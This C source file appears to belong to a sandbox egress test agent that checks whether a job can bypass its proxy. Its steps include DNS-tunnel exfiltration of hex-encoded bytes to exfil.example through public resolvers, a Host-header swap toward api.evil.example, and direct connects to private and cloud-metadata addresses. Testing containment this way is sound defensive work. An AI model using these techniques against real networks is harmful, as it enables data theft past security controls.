/*
 * cordon-drill-agent, egress without the proxy's help (issue 19): what a
 * program that ignores HTTP(S)_PROXY can try. A name no rule allows,
 * resolved and reached by itself; data carried out in the names it asks
 * the resolver for; direct connects to public, private and link-local
 * addresses; and last, whether the job can learn why it was refused
 * (http://cordon.local/v1/denials names the denial and the rule that
 * would allow it). Names are resolved here by hand, one UDP question to
 * the job's resolv.conf: the agent is static, with no NSS.
 */
#include "agent.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define ASK_MS 2000 /* one DNS question's wait */
#define TRY_MS 1000 /* a direct connect's, and its answer's */

/* The first nameserver of /etc/resolv.conf into out (n bytes). */
static bool
job_nameserver(char *out, size_t n)
{
	size_t len;
	char *s = slurp("/etc/resolv.conf", 16384, &len);
	bool found = false;

	if (s == NULL)
		return false;
	for (char *line = s; line != NULL && *line != '\0' && !found;) {
		char *end = strchr(line, '\n'), ns[64];
		if (end != NULL)
			*end = '\0';
		if (sscanf(line, "nameserver %63s", ns) == 1)
			found = copy_field(out, n, ns);
		line = end != NULL ? end + 1 : NULL;
	}
	free(s);
	return found;
}

/* A question for name, of qtype, into q (at least 300 bytes): its
 * length, or 0 when the name does not fit. */
static size_t
question(const char *name, unsigned qtype, unsigned char *q)
{
	size_t n = 12;
	const char *label = name;

	memset(q, 0, 12);
	random_bytes(q, 2);
	q[2] = 0x01; /* recursion desired */
	q[5] = 1; /* one question */
	while (*label != '\0') {
		const char *dot = strchr(label, '.');
		size_t k = dot != NULL ? (size_t)(dot - label) : strlen(label);
		if (k == 0 || k > 63 || n + k + 6 > 300)
			return 0;
		q[n++] = (unsigned char)k;
		memcpy(q + n, label, k);
		n += k;
		label += k + (dot != NULL);
	}
	q[n++] = 0;
	q[n++] = (unsigned char)(qtype >> 8);
	q[n++] = (unsigned char)qtype;
	q[n++] = 0;
	q[n++] = 1; /* IN */
	return n;
}

/* Asks server (a numeric address) about name over UDP: the rcode (0..15)
 * with the first A answer in *ret (0 when none), or -errno (-ETIMEDOUT:
 * no reply). */
static int
ask(const char *server, const char *name, unsigned qtype, struct in_addr *ret)
{
	unsigned char q[300], a[512];
	union addr to;
	socklen_t tl = parse_addr(server, 53, &to);
	size_t qn = question(name, qtype, q);
	int64_t deadline = now_ms() + ASK_MS;
	int fd, r;

	ret->s_addr = 0;
	if (tl == 0 || qn == 0)
		return -EINVAL;
	fd = socket(to.sa.sa_family, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC,
	    0);
	if (fd < 0)
		return -errno;
	if (sendto(fd, q, qn, 0, &to.sa, tl) < 0) {
		r = -errno;
		close(fd);
		return r;
	}
	for (;;) {
		if ((r = wait_fd(fd, POLLIN, deadline)) < 0)
			break;
		ssize_t got = recv(fd, a, sizeof(a), MSG_DONTWAIT);
		if (got < 12 || a[0] != q[0] || a[1] != q[1] ||
		    (a[2] & 0x80) == 0)
			continue; /* not our answer */
		r = a[3] & 0x0f;
		/* The first answer record after the echoed question. */
		size_t p = qn;
		unsigned ancount = (unsigned)a[6] << 8 | a[7];
		for (unsigned i = 0; i < ancount && p + 12 <= (size_t)got;
		     i++) {
			while (p < (size_t)got && a[p] != 0 &&
			    (a[p] & 0xc0) != 0xc0)
				p += (size_t)a[p] + 1;
			p += p < (size_t)got && a[p] == 0 ? 1 : 2;
			if (p + 10 > (size_t)got)
				break;
			unsigned type = (unsigned)a[p] << 8 | a[p + 1];
			unsigned rdlen = (unsigned)a[p + 8] << 8 | a[p + 9];
			p += 10;
			if (type == 1 && rdlen == 4 && p + 4 <= (size_t)got) {
				memcpy(&ret->s_addr, a + p, 4);
				break;
			}
			p += rdlen;
		}
		break;
	}
	close(fd);
	return r;
}

/* Connects to addr:port by the deadline: the fd, or -errno. */
static int
dial(struct in_addr addr, int port, int64_t deadline)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
		.sin_port = htons((uint16_t)port),
		.sin_addr = addr };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0),
	    err = 0;
	socklen_t el = sizeof(err);

	if (fd < 0)
		return -errno;
	if (connect(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0 &&
	    errno != EINPROGRESS) {
		err = errno;
	} else if ((err = -wait_fd(fd, POLLOUT, deadline)) == 0) {
		(void)getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &el);
	}
	if (err != 0) {
		close(fd);
		return -err;
	}
	return fd;
}

/* Sends req on fd and reads what comes back by the deadline into buf (n
 * bytes, NUL-terminated): how many bytes, or -errno. */
static ssize_t
exchange(int fd, const char *req, char *buf, size_t n, int64_t deadline)
{
	size_t got = 0;
	ssize_t k = 0;

	if ((k = send_all(fd, req, strlen(req), deadline)) < 0)
		return k;
	while (got + 1 < n &&
	    (k = read_by(fd, buf + got, n - 1 - got, deadline)) > 0)
		got += (size_t)k;
	buf[got] = '\0';
	return got > 0 ? (ssize_t)got : k;
}

void
step_capture_unlisted(struct drill *d)
{
	char ns[64], ev[256] = "", detail[400] = "", req[512], buf[2048];
	const struct rule *u = find_rule(d, "plain", "plain");
	struct in_addr a;
	bool escaped = false;
	int r;

	if (!job_nameserver(ns, sizeof(ns))) {
		report(d, "untested", "-", "no nameserver in /etc/resolv.conf");
		return;
	}
	/* The name itself, from the job's own resolver. */
	r = ask(ns, "api.evil.example", 1, &a);
	append(ev, sizeof(ev), " ", "rcode=%d", r);
	if (r == 0 && a.s_addr != 0) {
		escaped = true;
		append(detail, sizeof(detail), "; ", "api.evil.example is %s",
		    inet_ntoa(a));
	} else {
		append(detail, sizeof(detail), "; ",
		    "the job's resolver does not know api.evil.example (%s%s)",
		    r == 3       ? "NXDOMAIN"
			: r >= 0 ? "rcode "
				 : "",
		    r == 3       ? ""
			: r >= 0 ? "other"
				 : errname(-r).s);
	}
	/* An allowed name's address, with the unlisted host as Host. */
	if (u != NULL && ask(ns, u->host, 1, &a) == 0 && a.s_addr != 0) {
		int64_t deadline = now_ms() + TRY_MS * 3;
		int fd = dial(a, u->port, deadline);
		ssize_t got = fd < 0 ? fd : 0;
		if (fd >= 0) {
			snprintf(req, sizeof(req),
			    "GET /drill HTTP/1.1\r\nHost: api.evil.example\r\n"
			    "Connection: close\r\n\r\n");
			got = exchange(fd, req, buf, sizeof(buf), deadline);
			close(fd);
		}
		bool refused =
		    got > 0 && strstr(buf, "X-Cordon-Deny: ") != NULL;
		append(ev, sizeof(ev), " ", "host_swap=%s",
		    got > 0 ? (refused ? "denied" : "answered")
			    : (got == 0 ? "closed" : errname((int)-got).s));
		if (got > 0 && !refused) {
			escaped = true;
			append(detail, sizeof(detail), "; ",
			    "%s's address answered a request for "
			    "api.evil.example",
			    u->host);
		} else {
			append(detail, sizeof(detail), "; ",
			    "%s's address with Host api.evil.example: %s",
			    u->host, refused ? "the proxy's 403" : "closed");
		}
	}
	report(d, escaped ? "escaped" : "stopped", ev, "%s", detail);
}

void
step_dns_exfil(struct drill *d)
{
	unsigned char secret[12];
	char name[128], ns[64], ev[256] = "", names[200] = "";
	const char *servers[MAX_NAMESERVERS + 4];
	int n = 0, replies = 0, nxdomain = 0, answered = 0;
	bool own = false;
	struct in_addr a;

	/* The data, as a name: hex of "secret" bytes under a domain the
	 * attacker's server would answer. */
	random_bytes(secret, sizeof(secret));
	int k = 0;
	for (size_t i = 0; i < sizeof(secret); i++)
		k += snprintf(name + k, sizeof(name) - (size_t)k, "%02x",
		    secret[i]);
	snprintf(name + k, sizeof(name) - (size_t)k, ".x.exfil.example");
	if ((own = job_nameserver(ns, sizeof(ns))))
		servers[n++] = ns;
	for (int i = 0; i < d->nns; i++)
		servers[n++] = d->ns[i];
	servers[n++] = "1.1.1.1";
	servers[n++] = "8.8.8.8";
	servers[n++] = "10.0.0.2";
	for (int i = 0; i < n; i++) {
		for (unsigned qtype = 1; qtype <= 16;
		     qtype += 15) { /* A, TXT */
			int r = ask(servers[i], name, qtype, &a);
			if (r < 0)
				continue;
			replies++;
			if (r == 3 && i == 0 && own) {
				nxdomain++;
				continue;
			}
			answered++;
			append(names, sizeof(names), ", ", "%s rcode %d",
			    servers[i], r);
		}
	}
	append(ev, sizeof(ev), " ", "servers=%d replies=%d nxdomain=%d", n,
	    replies, nxdomain);
	if (answered > 0)
		report(d, "escaped", ev, "a resolver answered %s: %s", name,
		    names);
	else
		report(d, "stopped", ev,
		    "only the job's own resolver answered, NXDOMAIN, and it "
		    "forwards nothing; no other resolver replied");
}

void
step_direct_addrs(struct drill *d)
{
	static const char *const addrs[] = { "1.1.1.1", "8.8.8.8",
		"10.20.30.40", "172.16.5.4", "192.168.1.1", "100.64.0.1",
		"169.254.169.254" };
	int ports[3] = { 443, 80, 0 };
	char ev[256] = "", detail[300] = "", buf[512];
	struct errs c = { 0 };
	int tries = 0, answered = 0, closed = 0;
	int64_t slowest = 0;

	/* The rules' ports too: the capture listens there. */
	for (int i = 0; i < d->nrule && ports[2] == 0; i++)
		if (d->rule[i].port != 443 && d->rule[i].port != 80)
			ports[2] = d->rule[i].port;
	for (size_t i = 0; i < sizeof(addrs) / sizeof(addrs[0]); i++) {
		for (int p = 0; p < 3 && ports[p] != 0; p++) {
			struct in_addr a;
			int64_t t0 = now_ms(), deadline = t0 + TRY_MS;
			inet_pton(AF_INET, addrs[i], &a);
			int fd = dial(a, ports[p], deadline);
			ssize_t got = fd;
			tries++;
			if (fd >= 0) {
				got = exchange(fd,
				    "GET / HTTP/1.1\r\nHost: drill.invalid\r\n"
				    "\r\n",
				    buf, sizeof(buf), deadline);
				close(fd);
			}
			if (now_ms() - t0 > slowest)
				slowest = now_ms() - t0;
			if (got > 0) {
				answered++;
				append(detail, sizeof(detail), ", ", "%s:%d",
				    addrs[i], ports[p]);
			} else if (got == 0 || got == -ECONNRESET) {
				closed++;
			} else {
				errs_add(&c, (int)-got);
			}
		}
	}
	errs_append(&c, ev, sizeof(ev));
	append(ev, sizeof(ev), " ", "tries=%d closed=%d slowest_ms=%lld", tries,
	    closed, (long long)slowest);
	if (answered > 0)
		report(d, "escaped", ev, "an answer came from %s", detail);
	else
		report(d, "stopped", ev,
		    "every direct connect was refused or closed inside the "
		    "job's namespace, the slowest in %lld ms",
		    (long long)slowest);
}

/* Whether a denials answer in body names host and a rule for it. */
static bool
names_denial(const char *body, const char *host)
{
	char want[300];

	snprintf(want, sizeof(want), "\"rule\":{\"host\":\"%s\"", host);
	return body != NULL && strstr(body, want) != NULL;
}

void
step_denials_why(struct drill *d)
{
	char host[80], url[160], ns[64], ev[256] = "", req[256], *buf;
	unsigned char r8[6];
	struct resp *r = resp_new(d);
	struct in_addr a;
	bool proxied, captured = false;

	if (r == NULL)
		return;
	random_bytes(r8, sizeof(r8));
	snprintf(host, sizeof(host),
	    "why-%02x%02x%02x%02x%02x%02x.evil.example", r8[0], r8[1], r8[2],
	    r8[3], r8[4], r8[5]);
	snprintf(url, sizeof(url), "http://%s/drill-why", host);
	proxy_request("GET", url, host, "", NULL, r, NULL);
	append(ev, sizeof(ev), " ", "denied=%d", r->h.status);
	/* Through the proxy, as HTTP_PROXY would send it. */
	proxy_request("GET", "http://cordon.local/v1/denials", "cordon.local",
	    "", NULL, r, NULL);
	proxied =
	    r->h.status == 200 && names_denial(r->buf + r->head_len, host);
	append(ev, sizeof(ev), " ", "proxied=%d", r->h.status);
	/* Without it: the job's resolver and the capture. */
	if ((buf = malloc(BODY_MAX)) != NULL &&
	    job_nameserver(ns, sizeof(ns)) &&
	    ask(ns, "cordon.local", 1, &a) == 0 && a.s_addr != 0) {
		int64_t deadline = now_ms() + PROXY_MS;
		int fd = dial(a, 80, deadline);
		if (fd >= 0) {
			snprintf(req, sizeof(req),
			    "GET /v1/denials HTTP/1.1\r\nHost: cordon.local\r\n"
			    "Connection: close\r\n\r\n");
			ssize_t got =
			    exchange(fd, req, buf, BODY_MAX, deadline);
			captured = got > 0 &&
			    strncmp(buf, "HTTP/1.1 200", 12) == 0 &&
			    names_denial(buf, host);
			close(fd);
		}
	}
	free(buf);
	free(r);
	append(ev, sizeof(ev), " ", "captured=%s", captured ? "named" : "no");
	if (proxied && captured)
		report(d, "stopped", ev,
		    "cordon.local named the denial of %s and the rule that "
		    "would allow it, through the proxy and without it",
		    host);
	else
		report(d, "untested", ev,
		    "cordon.local did not name the denial and its rule (%s%s)",
		    proxied ? "" : "through the proxy; ",
		    captured ? "" : "without it");
}
